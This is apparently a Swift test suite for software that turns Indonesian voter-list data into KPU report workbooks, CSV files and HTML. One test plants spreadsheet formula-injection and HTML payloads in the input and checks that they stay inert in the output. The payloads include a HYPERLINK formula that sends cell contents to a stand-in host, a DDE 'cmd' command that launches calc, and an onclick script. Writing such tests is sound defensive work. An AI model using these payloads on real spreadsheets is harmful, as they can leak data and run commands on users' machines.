import Foundation
import Testing

/// Every workbook of a report, taken apart without the program's own reader.
@Suite(.enabled(if: Program.canCheck)) struct WrittenFormsTests {
    private static func report(_ workdir: Workdir, _ folder: String) throws -> [String: WrittenWorkbook] {
        let names = FileManager.default.enumerator(atPath: workdir.path(folder))?.compactMap { $0 as? String } ?? []
        var books: [String: WrittenWorkbook] = [:]
        for name in names where name.hasSuffix(".xlsx") {
            books[name] = try WrittenWorkbook(try workdir.bytes("\(folder)/\(name)"))
        }
        return books
    }

    /// Rows of people on a sheet: those below the heading whose first cell is a number, but for the columns' own numbers.
    private static func people(_ rows: [[Int: String]]) -> (heading: [Int: String], rows: [[Int: String]]) {
        guard let top = rows.firstIndex(where: { $0.values.contains("NIK") }) else { return ([:], []) }
        return (rows[top], rows[(top + 1)...].filter { Int($0[0] ?? "") != nil && $0[1] != "2" })
    }

    /// Codes 11 and 12 stand on A.C alone and 1 to 10 on A.B alone; all files together hold exactly the people of the
    /// summary, each sheet those of one polling station.
    @Test func sumsOverAllFilesAreThoseOfTheSummary() async throws {
        let month = try await OfficeMonth.shared.value
        let workdir = try Workdir()
        let made = try await month.run(["report", "b", "--out", workdir.path("out"), "--quiet"])
        try #require(made.exitCode == 0, "\(made.errors)")
        let summary = try Run(workdir: month.workdir, folder: "b").json("summary.json")
        let expected = try #require(summary["kpuCodes"] as? [String: Int])
        let books = try Self.report(workdir, "out/report")
        var codes: [String: [Int: Int]] = [:]
        var asked = 0
        for (name, book) in books {
            let kind = name.split(separator: "/").first.map(String.init) ?? ""
            for sheet in book.sheetNames where kind != "recap.xlsx" {
                let (heading, rows) = Self.people(try book.rows(sheet))
                #expect(!rows.isEmpty, "\(name)")
                // People of any outcome.
                if kind == "duplicates" { continue }
                if kind == "dukcapil" {
                    asked += rows.count
                    continue
                }
                let remark = try #require(heading.first { $0.value == "Keterangan" }?.key)
                for row in rows {
                    let code = (row[remark] ?? "").prefix { $0.isNumber }
                    codes[kind, default: [:]][Int(code) ?? 0, default: 0] += 1
                }
            }
        }
        let all = Dictionary(uniqueKeysWithValues: expected.map { (Int($0.key) ?? 0, $0.value) })
        #expect(codes["form-ac"] == all.filter { $0.key > 10 })
        #expect(codes["form-ab"] == all.filter { $0.key <= 10 })
        #expect(asked == (all[11] ?? 0) + (all[12] ?? 0))
        // The recapitulation says the same people, by its cells.
        let recap = try #require(books["recap.xlsx"])
        let texts = try recap.rows(try #require(recap.sheetNames.first))
        let outcomes = try #require(summary["outcomes"] as? [String: Int])
        let numbers = Set(texts.compactMap { $0[1].flatMap(Int.init) })
        for (outcome, count) in outcomes { #expect(numbers.contains(count), "\(outcome)") }
        // Published formulas are our own differences.
        for formula in try recap.formulas() {
            #expect(formula.hasPrefix("B") || formula.hasPrefix("IF("), "\(formula)")
        }
    }

    /// Texts that a spreadsheet would run, in every column a form shows, stay texts in sheets and are disarmed in CSV.
    @Test func payloadsAreNotLive() async throws {
        let payloads = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(1;1)",
            "\t=1+1", "{=1+1}", "<b onclick=alert(1)>&amp;</b>",
        ]
        var list = "NKK,NIK,NAMA,TEMPAT LAHIR,TANGGAL LAHIR,STATUS KAWIN,JENIS KELAMIN,ALAMAT,RT,RW,KODE DESA,TPS\n"
        for (number, payload) in payloads.enumerated() {
            let cell = "\"" + payload.replacing("\"", with: "\"\"") + "\""
            // Every second one is struck off, so that both forms hold some.
            let birth = number % 2 == 0 ? "17-08-1990" : "17-08-2012"
            let date = number % 2 == 0 ? "170890" : "170812"
            list +=
                "1271900101120001,127190\(date)000\(number + 1),\(cell),\(cell),\(birth),B,L,\(cell),\(cell),1,1271901001,\(cell)\n"
        }
        let workdir = try Workdir()
        try workdir.write("dp4.csv", list)
        try workdir.write("regions.csv", "code,name\n1271,Medan\n1271901001,=1+1\n")
        let check = try await workdir.run(Lists.check + ["--regions", "regions.csv", "--persons", "--quiet"])
        try #require(check.exitCode == 0, "\(check.errors)")
        let rules = ["--rules", Program.rules, "--quiet"]
        for command in ["report", "outreach"] {
            let made = try await workdir.run([command, "run"] + rules)
            #expect(made.exitCode == 0, "\(made.errors)")
        }
        for mask in ["kpu2018", "kpu2020"] {
            let made = try await workdir.run(["report", "run", "--mask", mask, "--out", mask] + rules)
            #expect(made.exitCode == 0, "\(made.errors)")
        }
        var shown: Set<String> = []
        for folder in ["run/report", "run/outreach", "kpu2018/report", "kpu2020/report"] {
            for (name, book) in try Self.report(workdir, folder) {
                if name != "recap.xlsx" { #expect(try book.formulas().isEmpty, "\(folder)/\(name)") }
                for sheet in book.sheetNames {
                    let text = try book.text(sheet)
                    #expect(!text.contains("<hyperlink"), "\(folder)/\(name)")
                    for row in try book.rows(sheet) { shown.formUnion(row.values) }
                }
            }
        }
        // They are there, as they were written.
        for payload in payloads where !payload.hasPrefix("\t") { #expect(shown.contains(payload), "\(payload)") }
        let names = FileManager.default.enumerator(atPath: workdir.path("run"))?.compactMap { $0 as? String } ?? []
        var cells = 0
        for name in names where name.hasSuffix(".csv") {
            let table = ResultTable(try workdir.text("run/\(name)"))
            for row in table.rows {
                for value in row.values {
                    cells += 1
                    #expect(!["=", "+", "-", "@", "\t", "\r"].contains { value.hasPrefix($0) }, "\(name)")
                }
            }
        }
        #expect(cells > 100)
        let html = try workdir.text("run/report/report.html")
        for payload in payloads { #expect(!html.contains(payload)) }
    }

    /// A polling station is one however its number is written.
    @Test func aStationHasOneSheet() async throws {
        let workdir = try Workdir()
        try workdir.write("dp4.csv", Lists.people.replacing("1271901002,2", with: "1271901001,001"))
        #expect(try await workdir.run(Lists.check + ["--quiet"]).exitCode == 0)
        #expect(try await workdir.run(["report", "run", "--rules", Program.rules, "--quiet"]).exitCode == 0)
        let forms = try Self.report(workdir, "run/report").filter { $0.key.hasPrefix("form-ac/") }
        let book = try #require(forms.values.first)
        #expect(forms.count == 1 && book.sheetNames.count == 1)
        #expect(try Self.people(try book.rows(try #require(book.sheetNames.first))).rows.count == 3)
    }
}
